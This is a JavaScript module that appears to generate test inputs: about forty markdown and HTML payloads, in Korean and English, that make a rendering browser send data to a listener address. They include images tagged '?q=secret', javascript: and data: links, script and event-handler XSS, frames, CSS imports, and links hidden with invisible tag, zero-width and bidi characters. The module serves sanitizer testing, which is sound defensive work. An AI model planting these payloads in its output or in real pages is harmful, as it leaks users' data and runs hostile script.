/**
 * Ways in which a text makes a careless reader's browser send something somewhere, each in Korean and in English.
 * @param {(name: string) => string} address an address of the listener, by the name of the form
 * @returns {{name: string, text: string}[]}
 */
export function exfiltrationForms(address) {
  const words = [
    { language: 'ko', label: '자세히 보기', lead: '자세한 내용은' },
    { language: 'en', label: 'Read more', lead: 'For details see' },
  ];
  return words.flatMap(({ language, label, lead }) =>
    Object.entries(templates).map(([kind, template]) => {
      const name = `${kind}-${language}`;
      return { name, text: `${lead} ${template(address(name), label)}` };
    }),
  );
}

const script = (url) => `window.attacked=1;fetch('${url}');alert(1)`;
const tags = (text) => [...text].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
const entities = (text) => [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');

/** By kind: how the address is hidden in a text. */
const templates = {
  image: (url, label) => `![${label}](${url}?q=secret)`,
  imageTitle: (url, label) => `![${label}](<${url}> "${label}")`,
  imageReference: (url, label) => `![${label}][r]\n\n[r]: ${url}`,
  imageInLink: (url, label) => `[![${label}](${url})](${url})`,
  imageData: (url, label) =>
    `![${label}](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>)`,
  imageProtocolRelative: (url, label) => `![${label}](${url.replace('http:', '')})`,
  imageInTable: (url, label) => `\n\n| a | b |\n| --- | --- |\n| ![${label}](${url}) | <img src="${url}"> |`,
  link: (url, label) => `[${label}](${url}?q=secret)`,
  linkSpoofed: (url) => `[https://intranet.hanbit.example](${url})`,
  linkReference: (url, label) => `[${label}][r]\n\n[r]: ${url} "${label}"`,
  linkShortReference: (url, label) => `[${label}]\n\n[${label}]: ${url}`,
  linkJavascript: (url, label) => `[${label}](javascript:${script(url).replaceAll("'", '%27')})`,
  linkJavascriptHidden: (url, label) => `[${label}](java&#10;script:fetch%28%27${url}%27%29)`,
  linkVbscript: (url, label) => `[${label}](vbscript:msgbox)`,
  linkDataHtml: (url, label) => `[${label}](data:text/html,<script>fetch('${url}')</script>)`,
  linkFootnote: (url, label) => `${label}[^1]\n\n[^1]: ${url}`,
  autolink: (url) => `<${url}?q=secret>`,
  autolinkBare: (url) => `${url}?q=secret`,
  autolinkWww: (url) => url.replace('http://', 'www.'),
  autolinkMail: () => '<secret@evil.example>',
  htmlImage: (url) => `<img src="${url}" onerror="${script(url)}">`,
  htmlImageSet: (url) => `<img srcset="${url} 1x"><picture><source srcset="${url}"></picture>`,
  htmlLink: (url, label) => `<a href="${url}" ping="${url}" target="_blank">${label}</a>`,
  htmlScript: (url) => `<script>${script(url)}</script><script src="${url}"></script>`,
  htmlHandlers: (url, label) => `<div onclick="${script(url)}" onmouseover="${script(url)}" style="x:y">${label}</div>`,
  htmlFrames: (url) =>
    `<iframe src="${url}"></iframe><iframe srcdoc="<img src='${url}'>"></iframe><embed src="${url}"><object data="${url}"></object>`,
  htmlMedia: (url) => `<video src="${url}" poster="${url}" autoplay></video><audio src="${url}" autoplay></audio>`,
  htmlForm: (url, label) =>
    `<form action="${url}"><button autofocus onfocus="this.form.submit()">${label}</button></form>`,
  htmlMetaRefresh: (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  htmlLinkElements: (url) =>
    `<link rel="stylesheet" href="${url}"><link rel="prefetch" href="${url}"><link rel="dns-prefetch" href="${url}"><base href="${url}">`,
  htmlStyle: (url) => `<style>@import url(${url}); body { background: url(${url}) }</style>`,
  htmlStyleAttribute: (url, label) => `<p style="background:url(${url});list-style-image:url('${url}')">${label}</p>`,
  htmlComment: (url) => `<!-- --><img src="${url}"><!-- <img src="${url}"> -->`,
  htmlEntities: (url) => `<img src="${entities(url)}">&lt;img src="${url}"&gt;`,
  htmlNoscript: (url) => `<noscript><p title="</noscript><img src=${url} onerror=${'alert(1)'}>"></noscript>`,
  htmlTemplate: (url) => `<template><img src="${url}"></template><details open ontoggle="${script(url)}"></details>`,
  svg: (url) =>
    `<svg onload="${script(url)}"><image href="${url}"/><use href="${url}#a"/><script>${script(url)}</script></svg>`,
  mathml: (url) => `<math><mtext><style><img src="${url}" onerror="${script(url)}"></style></mtext></math>`,
  tagCharacters: (url, label) => `${label}${tags(`![x](${url})`)}`,
  zeroWidth: (url, label) => `!\u200b[${label}]\u2060(${url.replace('//', '/\u200b/')})`,
  bidi: (url, label) => `[${label}\u202egpj.elif\u202c](${url})`,
  codeThatIsNone: (url) => `\`\`\`html\n<img src="${url}">\n\`\`\`\n<img src="${url}">`,
  mermaid: (url) => `\`\`\`mermaid\ngraph TD; A["<img src='${url}'>"]; click A "${url}"\n\`\`\``,
  latex: (url) => `$\\href{${url}}{x}$ $$\\includegraphics{${url}}$$`,
};
